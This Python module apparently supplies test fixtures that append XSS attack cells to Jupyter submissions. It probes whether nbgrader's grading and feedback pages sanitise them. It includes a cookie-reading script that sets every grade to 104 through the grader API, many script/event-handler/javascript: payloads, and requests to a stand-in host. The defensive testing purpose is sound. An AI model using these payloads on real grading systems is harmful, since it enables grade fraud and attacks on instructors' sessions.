"""Attacks on whoever looks at a submission: each calls `hit("its name")`, or makes the browser ask for something.

`runs` says whether it does so in a page that nothing sanitised, as nbgrader alone makes it; the others are
already stopped there today, and stay here in case that ends.
"""

from __future__ import annotations

import base64
import dataclasses
import json

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

ELSEWHERE = "http://attack.invalid"
"""Requests to this host tell, by their path, which attack made them."""
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

_RAISE_THE_SCORE = """<script>
const secret = document.cookie.match(/_xsrf=([^;]+)/)[1];
fetch(base_url + '/api/grades?submission_id=' + submission_id)
  .then(answer => answer.json())
  .then(grades => Promise.all(grades.map(grade => fetch(base_url + '/api/grade/' + grade.id, {method: 'PUT',
    headers: {'X-CSRFToken': secret, 'X-XSRFToken': secret, 'Content-Type': 'application/json'},
    body: JSON.stringify({manual_score: 104, extra_credit: 0})}))))
  .then(() => hit('raise-the-score'));
</script>"""
RAISE_THE_SCORE = new_code_cell(f"from IPython.display import HTML\nHTML({_RAISE_THE_SCORE!r})", id="raise-the-score")
"""In the formgrader's page, sets every score of the submission to 104."""


@dataclasses.dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        name: what it reports.
        cell: the cell that holds it.
        runs: whether it runs in a page of a submission that nothing sanitised.
        breaks: whether that page could not be made at all.
    """

    name: str
    cell: NotebookNode
    runs: bool = True
    breaks: bool = False


ATTACKS: list[Attack] = []


def _add(name: str, cell: NotebookNode, **kwargs: bool) -> None:
    ATTACKS.append(Attack(name, cell, **kwargs))


def _output(name: str, data: dict, metadata: dict | None = None, **kwargs: bool) -> None:
    data = json.loads(json.dumps(data).replace("HIT", f"hit('{name}')").replace("URL", f"{ELSEWHERE}/{name}"))
    metadata = json.loads(json.dumps(metadata or {}).replace("HIT", f"hit('{name}')"))
    source = f"from IPython.display import publish_display_data\npublish_display_data({data!r}, {metadata!r})"
    _add(name, new_code_cell(source), **kwargs)


def _html(name: str, html: str, **kwargs: bool) -> None:
    _output(name, {"text/html": html, "text/plain": name}, **kwargs)


def _markdown(name: str, source: str, attachments: dict | None = None, **kwargs: bool) -> None:
    cell = new_markdown_cell(source.replace("HIT", f"hit('{name}')").replace("URL", f"{ELSEWHERE}/{name}"))
    if attachments:
        text = json.dumps(attachments).replace("HIT", f"hit('{name}')")
        cell["attachments"] = json.loads(text)
    _add(name, cell, **kwargs)


_html("script", "<script>HIT</script>")
_html("script-in-pieces", "<scr<script></script>ipt>HIT</script><ScRiPt\n>HIT</sCrIpT >")
_html("alert", "<script>alert(1);HIT</script>")
_html("onerror", '<img src="x" onerror="HIT">')
_html("onerror-slashes", '<img/src="x"/onerror=HIT>')
_html("onerror-unclosed", '<img src=x onerror="HIT" ')
_html("svg-onload", '<svg onload="HIT"></svg>')
_html("svg-script", "<svg><script>HIT</script></svg>")
_html("svg-animation", '<svg><animate onbegin="HIT" attributeName="x" dur="1s"></animate></svg>')
_html("svg-foreign-object", '<svg><foreignObject><img src="x" onerror="HIT"></foreignObject></svg>')
_html("svg-link", '<svg><a xlink:href="javascript:HIT"><text x="9" y="9">x</text></a></svg>')
_html("mathml-link", '<math><mtext><a href="javascript:HIT">x</a></mtext></math>')
_html("iframe-document", '<iframe srcdoc="<script>parent.HIT</script>"></iframe>')
_html("iframe-javascript", '<iframe src="javascript:parent.HIT"></iframe>')
_html("iframe-elsewhere", '<iframe src="URL"></iframe>')
_html("object", '<object data="URL"></object>')
_html("embed", '<embed src="URL">')
_html("meta-refresh", '<meta http-equiv="refresh" content="1;url=URL">')
_html("style-import", "<style>@import url(URL);</style>")
_html("style-background", '<div style="background:url(URL);width:9px;height:9px">x</div>')
_html("style-list", '<ul style="list-style-image:url(URL)"><li>x</li></ul>')
_html("style-expression", '<div style="width:expression(HIT)">x</div>', runs=False)
_html("stylesheet", '<link rel="stylesheet" href="URL">')
_html("base", '<base href="URL/"><img src="y.png">')
_html("form", '<form action="URL"><input name="a"><button>go</button></form>')
_html("button-javascript", '<form><button formaction="javascript:HIT">go</button></form>')
_html("autofocus", '<input autofocus onfocus="HIT">')
_html("details", '<details open ontoggle="HIT"><summary>x</summary></details>')
_html("video", '<video><source src="x" onerror="HIT"></video>')
_html("hover", '<p onmouseover="HIT">x</p>')
_html("unknown-element", '<x-y onmouseover="HIT">x</x-y>')
_html("link-javascript", '<a href="javascript:HIT">x</a>')
_html("link-javascript-hidden", '<a href="java&#10;script&colon;HIT">x</a>')
_html("link-file", '<a class="click" href="evil.html?link-file">x</a>')
_html("link-files-prefix", '<a href="files/javascript:HIT">x</a>', runs=False)
_html("image-elsewhere", '<img src="URL">')
_html("image-set", '<img srcset="URL 2x, URL 1x">')
_html("image-of-server", '<img src="/formgrader?path=/image-of-server">')
_html("mutation-noscript", '<noscript><p title="</noscript><img src=x onerror=HIT>"></noscript>', runs=False)
_html(
    "mutation-style",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=HIT>">',
    runs=False,
)
_html("mutation-comment", "<!--><img src=x onerror=HIT>-->")
_html("template", '<template shadowrootmode="open"><img src="x" onerror="HIT"></template>')
_html(
    "forged-card", '<div class="nbgrader_cell"><input id="check_partials" class="score" value="104"></div>', runs=False
)
_html("plain-text", "<plaintext>", runs=False)
_output("isolated", {"text/html": "<script>HIT</script>"}, {"text/html": {"isolated": True}})
# The formgrader has the jQuery that nbconvert puts around it, a page of feedback has none.
_output("javascript-output", {"application/javascript": "HIT"}, runs=False)
_output("markdown-output", {"text/markdown": '<img src="x" onerror="HIT">'})
_output("latex-output", {"text/latex": '<img src="x" onerror="HIT">'}, runs=False)
_output("latex-link", {"text/latex": r"$\href{javascript:HIT}{x}$"}, runs=False)
_output(
    "svg-output", {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><script>HIT</script></svg>'}, runs=False
)
_output("png-quotes", {"image/png": f'{PIXEL}" onload="HIT'}, runs=False)
_output("png-width", {"image/png": PIXEL}, {"image/png": {"width": "9 onload=HIT x"}})
_output("mermaid-output", {"text/vnd.mermaid": '<img src="x" onerror="HIT">'}, runs=False)
_output("widget", {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>HIT"}}, runs=False)
_output("own-verdict", {"application/vnd.autograder.verdict+json": {}, "text/html": "<script>HIT</script>"})
_output("type-with-html", {'<img src="x" onerror="HIT">': "x"}, runs=False)
_add("stdout", new_code_cell("""print('<img src="x" onerror="hit(\\'stdout\\')">')"""), runs=False)
_add(
    "ansi",
    new_code_cell("""print('\\x1b[31;"onmouseover=hit(\\'ansi\\')m<script>hit(\\'ansi\\')</script>\\x1b[0m')"""),
    runs=False,
)
_add("evalue", new_code_cell("""raise ValueError('<script>hit("evalue")</script>')"""), runs=False)
_add("ename", new_code_cell("""raise type('<script>hit("ename")</script>', (Exception,), {})()"""), runs=False)
_add("source", new_code_cell("""'</pre></div><script>hit("source")</script>'"""), runs=False)

_markdown("md-script", "<script>HIT</script>")
_markdown("md-onerror", 'some *text* <img src=x onerror="HIT"> more')
_markdown("md-nested", '> 1. a\n>    - b | <b onmouseover="HIT">c</b>')
_markdown("md-table", '| a |\n|---|\n| <img src=x onerror="HIT"> |')
_markdown("md-heading", '# Title <img src=x onerror="HIT">')
_markdown("md-comment", '<!--> <img src=x onerror="HIT"> -->')
_markdown("md-link", "[x](javascript:HIT)")
_markdown("md-link-reference", "[x][r]\n\n[r]: javascript:HIT")
_markdown("md-link-entity", "[x](&#106;avascript&colon;HIT)")
_markdown("md-link-files", "[x](files/javascript:HIT)")
_markdown("md-link-data", "[x](data:text/html;base64,PHNjcmlwdD4=)", runs=False)
_markdown("md-autolink", "<javascript:HIT>")
_markdown("md-title", '[x](https://docs.example.org "a\\" onmouseover=\\"HIT")', runs=False)
_markdown("md-image", "![x](URL)")
_markdown("md-image-of-server", "![x](/formgrader?path=/md-image-of-server)")
_markdown("md-mermaid", '```mermaid\n<img src=x onerror="HIT">\n```')
_markdown("md-fence", '```x"><img/src=x/onerror="HIT">\ncode\n```', runs=False)
_markdown("md-code", '`<img src=x onerror="HIT">`', runs=False)
_markdown("md-maths", '$<img src=x onerror="HIT">$ $$<img src=x onerror="HIT">$$', runs=False)
_markdown("md-maths-environment", '\\begin{x}<img src=x onerror="HIT">\\end{x}', runs=False)
_markdown("md-maths-link", "$\\href{javascript:HIT}{x}$", runs=False)
_markdown("md-maths-configuration", '<script type="text/x-mathjax-config">HIT</script>', runs=False)
_markdown("md-style", "<style>div { background: url(URL) }</style>")
_markdown("md-attachment", "![x](attachment:a)", {"a": {'x" onerror="HIT" y="': "x"}}, runs=False)
_markdown("md-attachment-html", "![x](attachment:a)", {"a": {"text/html": base64.b64encode(b"x").decode()}}, runs=False)
_markdown("md-attachment-missing", "see ![x](attachment:no-such-picture)", breaks=True)
_markdown("md-heading-of-page", "# check_partials", runs=False)
_markdown("md-unclosed", "</div></div></div></div><div class='panel nbgrader_cell'>", runs=False)
_add("raw", new_raw_cell('<script>hit("raw")</script>'), runs=False)
_add("raw-html", new_raw_cell('<script>hit("raw-html")</script>', metadata={"raw_mimetype": "text/html"}), runs=False)
_tags = {"tags": ['"><script>hit("tags")</script>'], "transient": {"remove_source": True}}
_add("tags", new_code_cell("'hidden source'", metadata=_tags), runs=False)

METADATA = {
    "title": '</title><script>hit("title")</script>',
    "authors": [{"name": '<script>hit("authors")</script>'}],
    "widgets": {"application/vnd.jupyter.widget-state+json": {"state": '</script><script>hit("widgets")</script>'}},
    "language_info": {"name": "python", "pygments_lexer": '"><script>hit("lexer")</script>'},
}
"""Of the notebook itself."""


def attacking(notebook: NotebookNode, *, breaking: bool = True) -> NotebookNode:
    """A notebook with all attacks at its end, in place.

    Args:
        notebook: a submission.
        breaking: also what breaks the page where nothing is sanitised, and so hides the others.
    """
    notebook.cells.append(RAISE_THE_SCORE)
    for attack in ATTACKS:
        if breaking or not attack.breaks:
            notebook.cells.append(NotebookNode(attack.cell | {"id": attack.name}))
    if breaking:
        notebook.metadata |= METADATA
    return notebook
